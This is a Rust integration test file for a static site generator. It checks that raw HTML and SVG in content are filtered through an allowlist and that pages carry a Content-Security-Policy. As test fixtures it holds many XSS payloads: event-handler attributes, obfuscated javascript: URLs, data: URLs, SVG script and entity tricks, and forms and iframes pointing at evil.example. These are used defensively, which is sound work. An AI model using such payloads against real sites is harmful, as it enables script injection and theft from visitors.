//! Hostile HTML and SVG in content (issue 11, case 3), and the Content-Security-Policy every page
//! carries: raw HTML goes through a real parser and an allowlist, and whatever the author wrote
//! that cannot be kept is an error at its `file:line:col`; SVG files are checked the same way;
//! every HTML page has the policy as a `<meta>`, and `serve` sends it as a header.

use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Child, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::harness::{tierbook, Edit, TestSite};
use crate::webdriver;

/// The policy of DESIGN.md plus what a meta policy can add.
const POLICY: &str =
    "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; object-src 'none'; base-uri 'self'; form-action 'self'";

/// A page whose body starts on line 4 of its file.
fn page(body: &str) -> String {
    format!("+++\ntitle = \"P\"\n+++\n{body}")
}

/// Builds `files` into one site and asserts that stderr has every `expected` error line prefix.
fn assert_errors(files: &[(&str, &str)], expected: &[&str]) {
    let mut site = TestSite::new();
    for (path, text) in files {
        site = site.file(path, text);
    }
    let run = site.build();
    run.exit(1);
    let missing: Vec<&&str> = expected.iter().filter(|e| !run.stderr.contains(**e)).collect();
    assert!(missing.is_empty(), "missing errors {missing:#?}\nstderr:\n{}", run.stderr);
    assert!(!site.out().exists(), "a failed build wrote an output folder");
}

#[test]
fn event_handlers_are_errors_however_they_are_written() {
    assert_errors(
        &[
            ("content/p01.md", &page("<div>\n<img src=\"x\"onerror=\"document.title='pwned'\">\n</div>\n")),
            ("content/p02.md", &page("<div><svg/onload=alert(1)></div>\n")),
            ("content/p18.md", &page("<IMG SRC=x OnError=alert(1)>\n")),
            ("content/p19.md", &page("See <a href=\"https://example.org/\" onclick=\"steal()\">it</a>.\n")),
        ],
        &[
            "content/p01.md:5:13: error: raw HTML with an event-handler attribute `onerror`",
            "content/p02.md:4:6: error: raw HTML with an inline <svg>",
            "content/p02.md:4:11: error: raw HTML with an event-handler attribute `onload`",
            "content/p18.md:4:12: error: raw HTML with an event-handler attribute `onerror`",
            "content/p19.md:4:36: error: raw HTML with an event-handler attribute `onclick`",
        ],
    );
}

#[test]
fn scripts_styles_and_embedded_documents_are_errors() {
    assert_errors(
        &[
            ("content/p04.md", &page("<iframe src=\"https://evil.example/\"></iframe>\n")),
            ("content/p11.md", &page("<p style=\"color: red\">Red</p>\n\n<style>p { color: red }</style>\n")),
            ("content/p12.md", &page("Intro.\n\n<script>alert(1)</script>\n")),
            ("content/p20.md", &page("<object data=\"x.swf\"></object>\n<embed src=\"x.swf\">\n")),
        ],
        &[
            "content/p04.md:4:1: error: raw HTML with an <iframe> element",
            "content/p11.md:4:4: error: raw HTML with an inline `style` attribute",
            "content/p11.md:6:1: error: raw HTML with a <style> element",
            "content/p12.md:6:1: error: raw HTML with a <script> element",
            "content/p20.md:4:1: error: raw HTML with an <object> element",
            "content/p20.md:5:1: error: raw HTML with an <embed> element",
        ],
    );
}

#[test]
fn links_bases_and_redirects_that_change_the_page_are_errors() {
    assert_errors(
        &[
            ("content/p05.md", &page("<link rel=stylesheet href=\"https://evil.example/x.css\">\n")),
            ("content/p06.md", &page("<base href=\"https://evil.example/\">\n")),
            ("content/p07.md", &page("<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">\n")),
            ("content/p08.md", &page("<form action=\"https://evil.example/collect\"><input name=\"q\"></form>\n")),
        ],
        &[
            "content/p05.md:4:1: error: raw HTML with a <link> element",
            "content/p06.md:4:1: error: raw HTML with a <base> element",
            "content/p07.md:4:1: error: raw HTML with a <meta http-equiv=\"refresh\"> redirect",
            "content/p08.md:4:7: error: raw HTML with action=\"https://evil.example/collect\" on <form>",
        ],
    );
}

#[test]
fn script_and_data_urls_and_other_origins_are_errors() {
    assert_errors(
        &[
            ("content/p03.md", &page("<img src=\"https://cdn.example/track.png\" alt=\"\">\n")),
            (
                "content/p09.md",
                &page("Read <a href=\"javascript:alert(1)\">this</a>.\n<a href=\"&#106;ava&#x09;script:alert(1)\">x</a>\n"),
            ),
            ("content/p10.md", &page("<img src=\"data:image/svg+xml,&lt;svg onload=alert(1)&gt;\" alt=\"\">\n")),
            ("content/p22.md", &page("<img src=\"//cdn.example/a.png\" alt=\"\">\n<img src=\"/\\cdn.example/a.png\" alt=\"\">\n")),
            ("content/p21.md", &page("<img src=\"a.png\" srcset=\"https://cdn.example/a.png 2x\" alt=\"\">\n")),
        ],
        &[
            "content/p03.md:4:6: error: raw HTML with src=\"https://cdn.example/track.png\" on <img>",
            "content/p09.md:4:9: error: raw HTML with href=\"javascript:alert(1)\" on <a>",
            "content/p09.md:5:4: error: raw HTML with href=\"javascript:alert(1)\" on <a>",
            "content/p10.md:4:6: error: raw HTML with src=\"data:image/svg+xml,",
            "content/p22.md:4:6: error: raw HTML with src=\"//cdn.example/a.png\" on <img>",
            "content/p22.md:5:6: error: raw HTML with src=\"/\\cdn.example/a.png\" on <img>",
            "content/p21.md:4:18: error: raw HTML with the attribute `srcset` on <img>",
        ],
    );
}

/// Markdown links cannot carry script either; they say so rather than "does not exist".
#[test]
fn markdown_links_to_script_and_data_urls_are_errors() {
    assert_errors(
        &[(
            "content/l.md",
            &page("[x](javascript:alert(1)) <javascript:alert(1)> [y](data:text/html,hi) [z](JaVa%73cript:x)\n"),
        )],
        &[
            "content/l.md:4:1: error: link to `javascript:alert(1)`: pages run no script from content",
            "content/l.md:4:26: error: link to `javascript:alert(1)`: pages run no script from content",
            "content/l.md:4:48: error: link to `data:text/html,hi`: a data: URL",
        ],
    );
}

/// pulldown-cmark hands raw HTML over in pieces (one event per line of a block, one per inline
/// tag, blocks split at blank lines): a tag split over pieces must not slip through.
#[test]
fn tags_split_across_markdown_events_are_checked_whole() {
    assert_errors(
        &[
            ("content/p13.md", &page("<div>\n<img src=x\n\n<b onerror=alert(1)>\n</div>\n")),
            ("content/p14.md", &page("> <div>\n> <img src=x\n> onerror=alert(1)>\n> </div>\n")),
            ("content/p15.md", &page("Text <img src=x\nonerror=alert(1)> more.\n")),
            ("content/p16.md", &page("a <![CDATA[ x > <img src=x onerror=alert(1)> ]]>\n")),
            ("content/p17.md", &page("<div>\n<img src=\"x\" alt=\"a\n\nThen <b>text</b>.\n")),
        ],
        &[
            "content/p13.md:7:4: error: raw HTML with an event-handler attribute `onerror`",
            "content/p14.md:6:3: error: raw HTML with an event-handler attribute `onerror`",
            "content/p15.md:5:1: error: raw HTML with an event-handler attribute `onerror`",
            "content/p16.md:4:28: error: raw HTML with an event-handler attribute `onerror`",
            "content/p17.md:5:1: error: raw HTML with a tag that is not closed before the markdown after it",
        ],
    );
}

#[test]
fn every_error_has_a_hint_and_check_reports_the_same() {
    let site = TestSite::new().file(
        "content/a.md",
        &page("<div>\n<img src=\"x\"onerror=\"alert(1)\">\n</div>\n\n<a href=\"javascript:alert(1)\">x</a>\n"),
    );
    let run = site.build();
    run.exit(1).stderr_has("error: 2 content errors found");
    let hints = run.stderr.lines().filter(|l| l.trim_start().starts_with("hint: ")).count();
    assert_eq!(hints, 2, "{}", run.stderr);

    let check = site.run(&["check", "--format", "json"]);
    check.exit(1);
    let report: Value = serde_json::from_str(&check.stdout).expect("check prints JSON");
    let located: Vec<(String, u64, u64)> = report["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["severity"] == "error")
        .map(|d| (d["path"].as_str().unwrap().to_string(), d["line"].as_u64().unwrap(), d["column"].as_u64().unwrap()))
        .collect();
    assert_eq!(located, [("content/a.md".to_string(), 5, 13), ("content/a.md".to_string(), 8, 4)]);
}

/// What training content needs is kept exactly as written.
#[test]
fn allowed_html_is_kept_as_written() {
    let html = [
        "<details class=\"tip\" id=\"why-wait\">\n<summary>Why wait?</summary>\n",
        "<figure>\n<img src=\"grip.png\" alt=\"A tripod grip\" width=\"200\" height=\"100\">\n<figcaption>A tripod grip.</figcaption>\n</figure>\n",
        "<table class=\"data\">\n<thead><tr><th scope=\"col\">Week</th><th>Minutes</th></tr></thead>\n<tbody><tr><td colspan=\"2\">20</td></tr></tbody>\n</table>\n",
        "Press <kbd>Ctrl</kbd>+<kbd>P</kbd>. See <a href=\"https://example.org/guide\" title=\"Guide\">the guide</a>, <a href=\"mailto:ot@district.example\">email us</a>, <a href=\"../b/#steps\">the steps</a>, <abbr title=\"Occupational therapy\">OT</abbr>, H<sub>2</sub>O and <mark>this</mark>.<br>",
    ];
    let body =
        format!("{}\nMarkdown **inside** works.\n\n</details>\n\n{}\n{}\n{}\n", html[0], html[1], html[2], html[3]);
    let site =
        TestSite::new().file("content/a.md", &page(&body)).file("content/b.md", &page("## Steps\n\nOne.\n")).built();
    let out = site.read("a/index.html");
    for piece in html {
        assert!(out.contains(piece), "lost or changed:\n{piece}\nin:\n{out}");
    }
    assert!(out.contains("<p>Markdown <strong>inside</strong> works.</p>"));
}

#[test]
fn svg_files_with_active_or_external_content_are_errors() {
    let svg = |inner: &str| {
        format!("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">\n  {inner}\n</svg>\n")
    };
    let files = [
        ("content/s01.svg", svg("<script>fetch('/x')</script>")),
        ("content/s02.svg", svg("<foreignObject width=\"9\" height=\"9\"><p xmlns=\"http://www.w3.org/1999/xhtml\">x</p></foreignObject>")),
        ("content/s03.svg", svg("<rect onclick=\"alert(1)\" width=\"1\" height=\"1\"/>")),
        ("content/s04.svg", svg("<image href=\"https://evil.example/x.png\" width=\"1\" height=\"1\"/>")),
        ("content/s05.svg", svg("<use xlink:href=\"//evil.example/s.svg#a\"/>")),
        ("content/s06.svg", svg("<style>@import url(https://evil.example/x.css);</style>")),
        ("content/s07.svg", svg("<rect style=\"fill: url(http://evil.example/p.svg#p)\" width=\"1\" height=\"1\"/>")),
        ("content/s08.svg", svg("<a href=\"javascript:alert(1)\"><text>x</text></a>")),
        ("content/s09.svg", "<!DOCTYPE svg [\n<!ENTITY x \"&#60;script&#62;alert(1)&#60;/script&#62;\">\n]>\n<svg xmlns=\"http://www.w3.org/2000/svg\">&x;</svg>\n".to_string()),
        ("content/s10.svg", "<?xml-stylesheet type=\"text/xsl\" href=\"https://evil.example/x.xsl\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>\n".to_string()),
        ("content/s11.svg", svg("<h:iframe xmlns:h=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.example/\"/>")),
        ("content/s12.svg", svg("<a><set attributeName=\"href\" to=\"javascript:alert(1)\"/><text>x</text></a>")),
        ("content/s13.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" xml:base=\"https://evil.example/\">\n  <image href=\"x.png\"/>\n</svg>\n".to_string()),
        ("content/s14.svg", svg("<style>rect { fill: \\75 rl(https://evil.example/p) }</style>")),
        ("content/s15.svg", svg("<rect fill=\"url(https://evil.example/p.svg#p)\" width=\"1\" height=\"1\"/>")),
        ("content/s16.svg", svg("<image href=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\"/>")),
        ("static/logo-bad.svg", svg("<script href=\"/js/x.js\"/>")),
        ("templates/icons/bad.svg", svg("<circle r=\"1\" onmouseover=\"alert(1)\"/>")),
    ];
    let files: Vec<(&str, &str)> = files.iter().map(|(p, t)| (*p, t.as_str())).collect();
    assert_errors(
        &files,
        &[
            "content/s01.svg:2:3: error: SVG with a <script> element",
            "content/s02.svg:2:3: error: SVG with a <foreignObject> element",
            "content/s03.svg:2:9: error: SVG with an event-handler attribute `onclick`",
            "content/s04.svg:2:10: error: SVG with href=\"https://evil.example/x.png\" on <image>",
            "content/s05.svg:2:8: error: SVG with xlink:href=\"//evil.example/s.svg#a\" on <use>",
            "content/s06.svg:2:10: error: SVG with a CSS @import",
            "content/s07.svg:2:9: error: SVG with a CSS url(http://evil.example/p.svg#p)",
            "content/s08.svg:2:6: error: SVG with href=\"javascript:alert(1)\" on <a>",
            "content/s09.svg:2:1: error: SVG with an entity declaration",
            "content/s10.svg:1:1: error: SVG with an xml-stylesheet instruction",
            "content/s11.svg:2:3: error: SVG with an HTML <iframe> element",
            "content/s12.svg:2:6: error: SVG with an animation of `href`",
            "content/s13.svg:1:41: error: SVG with an `xml:base` attribute",
            "content/s14.svg:2:23: error: SVG with a backslash escape in CSS",
            "content/s15.svg:2:9: error: SVG with a CSS url(https://evil.example/p.svg#p)",
            "content/s16.svg:2:10: error: SVG with href=\"data:image/svg+xml;base64,",
            "static/logo-bad.svg:2:3: error: SVG with a <script> element",
            "templates/icons/bad.svg:2:17: error: SVG with an event-handler attribute `onmouseover`",
        ],
    );
}

/// An SVG as drawing programs write it (DOCTYPE, metadata, gradients, local references, a link
/// out) is fine.
#[test]
fn ordinary_svg_files_pass() {
    let svg = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n\
<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns:cc=\"http://creativecommons.org/ns#\" viewBox=\"0 0 20 20\">\n\
  <metadata><rdf:RDF><cc:Work rdf:about=\"\"><cc:license rdf:resource=\"http://creativecommons.org/licenses/by/4.0/\"/></cc:Work></rdf:RDF></metadata>\n\
  <defs><linearGradient id=\"g\"><stop offset=\"0\" stop-color=\"#fff\"/></linearGradient><circle id=\"c\" r=\"2\"/></defs>\n\
  <style>.a { fill: url(#g); }</style>\n\
  <rect class=\"a\" width=\"20\" height=\"20\" style=\"stroke: url(#g)\" fill=\"url(#g)\"/>\n\
  <use href=\"#c\"/><use xlink:href=\"#c\"/><image href=\"photo.png\" width=\"5\" height=\"5\"/>\n\
  <a href=\"https://example.org/\"><text>Source</text></a>\n\
</svg>\n";
    TestSite::new()
        .file("content/guides/diagram.svg", svg)
        .file("content/guides/g.md", &page("![A diagram](diagram.svg)\n"))
        .file("static/logo.svg", svg)
        .built();
}

/// HTML documents and scripts under content/ would run on the site's origin if copied: they are
/// content errors naming the file, and nothing is written. The same files in static/ are the
/// maintainers' own and are copied.
#[test]
fn documents_and_scripts_under_content_are_errors() {
    assert_errors(
        &[
            ("content/guides/g.md", &page("Text.\n")),
            ("content/guides/steal.html", "<script>fetch('/')</script>"),
            ("content/guides/app.js", "localStorage.clear()"),
            ("content/guides/deep/mod.MJS", "export {}"),
        ],
        &[
            "content/guides/steal.html: error: a file that browsers run",
            "content/guides/app.js: error: a file that browsers run",
            "content/guides/deep/mod.MJS: error: a file that browsers run",
        ],
    );
    let site = TestSite::new().file("static/js/district.js", "export {};\n").built();
    assert!(site.out().join("js/district.js").is_file());
}

/// Every HTML file of the bundled site carries the policy, once, as the first thing in its head
/// that could load anything.
#[test]
fn every_page_of_the_bundled_site_carries_the_csp_meta() {
    let site = TestSite::bundled().built();
    let meta = format!("<meta http-equiv=\"Content-Security-Policy\" content=\"{POLICY}\">");
    let mut pages = 0;
    for entry in walkdir::WalkDir::new(site.out()) {
        let entry = entry.unwrap();
        if entry.path().extension().is_none_or(|e| e != "html") {
            continue;
        }
        pages += 1;
        let html = std::fs::read_to_string(entry.path()).unwrap();
        let name = entry.path().display();
        assert_eq!(html.matches(&meta).count(), 1, "{name} lacks the CSP meta (or has it twice)");
        let at = html.find(&meta).unwrap();
        let head = html.find("<head>").unwrap_or_else(|| panic!("{name} has no <head>"));
        assert!(head < at, "{name}: the CSP meta is outside <head>");
        for loader in ["<link", "<script", "<style", "<img", "<base"] {
            if let Some(first) = html.find(loader) {
                assert!(at < first, "{name}: {loader} comes before the CSP meta");
            }
        }
    }
    // Pages, the 404 page, alias redirects, certificates, print books, the search page.
    for path in ["index.html", "404.html", "search/index.html"] {
        assert!(site.exists(path), "{path} was not built");
    }
    assert!(pages > 50, "only {pages} HTML files");
}

/// A site's own templates that predate the policy still get it.
#[test]
fn overridden_templates_and_alias_pages_get_the_csp_meta() {
    let site = TestSite::new()
        .file(
            "templates/page.html",
            "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>{{ page.title }}</title>\n<link rel=\"stylesheet\" href=\"{{ base }}css/style.css\">\n</head>\n<body>{{ page.content | safe }}</body>\n</html>\n",
        )
        .file("content/a.md", "+++\ntitle = \"A\"\naliases = [\"/old-a/\"]\n+++\nText.\n")
        .built();
    let meta = format!("<meta http-equiv=\"Content-Security-Policy\" content=\"{POLICY}\">");
    let own = site.read("a/index.html");
    assert!(own.starts_with(&format!("<!DOCTYPE html>\n<html lang=\"en\">\n<head>{meta}")), "{own}");
    let alias = site.read("old-a/index.html");
    assert_eq!(alias.matches(&meta).count(), 1, "{alias}");
    assert!(alias.find(&meta) < alias.find("http-equiv=\"refresh\""), "{alias}");
}

/// A running `tierbook serve`, killed on drop.
struct Serve {
    child: Child,
    url: String,
    stdout: mpsc::Receiver<String>,
}

impl Serve {
    fn start(site: &TestSite) -> Serve {
        let mut child = tierbook()
            .args(["serve", "--port", "0", "--root"])
            .arg(site.root())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("start tierbook serve");
        let (tx, rx) = mpsc::channel();
        let out = child.stdout.take().unwrap();
        std::thread::spawn(move || {
            for line in BufReader::new(out).lines().map_while(Result::ok) {
                let _ = tx.send(line);
            }
        });
        // Made at once, so the process is killed on drop even if no URL comes.
        let mut server = Serve { child, url: String::new(), stdout: rx };
        let deadline = Instant::now() + Duration::from_secs(30);
        while Instant::now() < deadline {
            if let Ok(line) = server.stdout.recv_timeout(Duration::from_millis(100)) {
                if let Some(rest) = line.strip_prefix("Serving ") {
                    server.url = rest.split_whitespace().next().unwrap().to_string();
                    return server;
                }
            }
        }
        panic!("tierbook serve printed no URL");
    }
}

impl Drop for Serve {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn serve_sends_the_policy_and_the_other_security_headers() {
    let site = TestSite::new().file("content/a.md", &page("Text.\n"));
    let server = Serve::start(&site);
    for path in ["", "a/", "css/style.css", "no-such-page/"] {
        let response =
            ureq::get(&format!("{}{path}", server.url)).config().http_status_as_error(false).build().call().unwrap();
        let header = |name: &str| response.headers().get(name).and_then(|v| v.to_str().ok()).map(str::to_string);
        assert_eq!(header("Content-Security-Policy").as_deref(), Some(POLICY), "{path}");
        assert_eq!(header("X-Content-Type-Options").as_deref(), Some("nosniff"), "{path}");
        assert_eq!(header("Referrer-Policy").as_deref(), Some("no-referrer"), "{path}");
    }
}

/// In Chromium: `serve` never delivers a planted page of the old kind (it fails the rebuild and
/// keeps the last good site), so its script cannot set a flag, and the overlay names the error.
#[test]
fn planted_payloads_do_not_run_in_the_browser() {
    let Some(browser) = webdriver::browser("planted_payloads_do_not_run_in_the_browser") else { return };
    let site = TestSite::new().file("content/a.md", &page("Good.\n"));
    let server = Serve::start(&site);
    browser.goto(&format!("{}a/", server.url));
    browser.find("body[data-training-ready='1']");

    let flag = "localStorage.setItem('pwned', '1'); document.documentElement.dataset.pwned = '1'";
    let site = site
        .file(
            "content/evil.md",
            &page(&format!("<div>\n<img src=\"x\"onerror=\"{flag}\">\n<svg/onload=\"{flag}\">\n</div>\n")),
        )
        .file(
            "content/evil.svg",
            &format!("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{flag}\">\n<script>{flag}</script>\n</svg>\n"),
        );
    browser.goto(&format!("{}a/", server.url));
    browser.wait_until(
        "the overlay of the failed rebuild",
        "return !!document.getElementById('tierbook-errors')",
        json!([]),
    );
    let overlay = browser.text("#tierbook-errors");
    assert!(overlay.contains("content/evil.md:5:13"), "{overlay}");
    assert!(overlay.contains("content/evil.svg:1:"), "{overlay}");
    for path in ["evil/", "evil.svg"] {
        browser.goto(&format!("{}{path}", server.url));
        std::thread::sleep(Duration::from_millis(300));
        let pwned = browser.execute(
            "return [localStorage.getItem('pwned'), document.documentElement.dataset.pwned || null]",
            json!([]),
        );
        assert_eq!(pwned, json!([null, null]), "{path} ran the planted script");
    }
    drop(site);
}

/// In Chromium, on a host that sends no CSP header: the meta policy blocks an inline script and a
/// resource from another origin that the same page without the meta runs and loads, and the
/// theme's own scripts still run under it.
#[test]
fn the_csp_meta_blocks_inline_scripts_a_bare_host_would_run() {
    let Some(browser) = webdriver::browser("the_csp_meta_blocks_inline_scripts_a_bare_host_would_run") else { return };
    let other = tempfile::tempdir().unwrap();
    std::fs::write(
        other.path().join("pixel.svg"),
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"3\" height=\"3\"/>",
    )
    .unwrap();
    let other_port = webdriver::serve(other.path().to_path_buf(), "/");

    let site = TestSite::new().file("content/a.md", &page("Text.\n")).built();
    let built = site.read("a/index.html");
    let meta = format!("<meta http-equiv=\"Content-Security-Policy\" content=\"{POLICY}\">");
    assert!(built.contains(&meta));
    // What a host, a proxy or a tampered copy might add to a page.
    let injected = format!(
        "<script>document.documentElement.dataset.inline = 'ran'</script><img id=\"remote\" alt=\"\" src=\"http://127.0.0.1:{other_port}/pixel.svg\"></body>"
    );
    let tampered = built.edit("</body>", &injected);
    std::fs::write(site.out().join("a/index.html"), &tampered).unwrap();
    std::fs::create_dir_all(site.out().join("control")).unwrap();
    std::fs::write(site.out().join("control/index.html"), tampered.edit(&meta, "")).unwrap();
    let port = webdriver::serve(site.out(), "/");

    let state = |path: &str| {
        browser.goto(&format!("http://127.0.0.1:{port}/{path}"));
        browser.find("body[data-training-ready='1']");
        browser.wait_until("the image to settle", "return document.getElementById('remote').complete", json!([]));
        browser.execute(
            "return [document.documentElement.dataset.inline || null, document.getElementById('remote').naturalWidth]",
            json!([]),
        )
    };
    assert_eq!(state("control/"), json!(["ran", 3]), "without the meta the injected code runs (the test can fail)");
    assert_eq!(state("a/"), json!([null, 0]), "the meta policy let the injected code run");
}

/// The bundled site's pages work under the meta policy alone (no header) without one violation.
#[test]
fn bundled_pages_run_under_the_meta_policy_without_violations() {
    let Some(browser) = webdriver::browser("bundled_pages_run_under_the_meta_policy_without_violations") else {
        return;
    };
    let site = TestSite::bundled();
    let out = site.root().join("www");
    site.run(&["build", "--root", &site.root().to_string_lossy(), "--output", &out.to_string_lossy()]).success();
    let port = webdriver::serve(out.clone(), "/");
    // Record every violation on every document, before any of the page's own code runs.
    browser.post(
        "/goog/cdp/execute",
        json!({"cmd": "Page.addScriptToEvaluateOnNewDocument", "params": {"source":
            "window.__violations = []; document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));"}}),
    );
    let mut visited = 0;
    for path in [
        "",
        "trainings/",
        "guides/pencil-grasp/",
        "calculator/",
        "search/",
        "case-studies/montgomery-county/",
        "referral-checklist/",
        "404.html",
    ] {
        browser.goto(&format!("http://127.0.0.1:{port}/{path}"));
        browser.find("body[data-training-ready='1']");
        if path == "calculator/" {
            browser.wait_until("the calculator", "return document.body.dataset.calculatorReady === '1'", json!([]));
        }
        let violations = browser.execute("return window.__violations", json!([]));
        assert_eq!(violations, json!([]), "/{path} broke the policy");
        visited += 1;
    }
    // A module's certificate and print pages too.
    let module = std::fs::read_dir(out.join("trainings"))
        .unwrap()
        .filter_map(|e| e.ok())
        .find(|e| e.path().join("certificate/index.html").is_file())
        .expect("a module with a certificate");
    let name = module.file_name().to_string_lossy().into_owned();
    for path in [format!("trainings/{name}/"), format!("trainings/{name}/certificate/")] {
        browser.goto(&format!("http://127.0.0.1:{port}/{path}"));
        browser.find("body[data-training-ready='1']");
        assert_eq!(browser.execute("return window.__violations", json!([])), json!([]), "/{path} broke the policy");
        visited += 1;
    }
    assert_eq!(visited, 10);
    assert!(Path::new(&out).join("404.html").is_file());
}
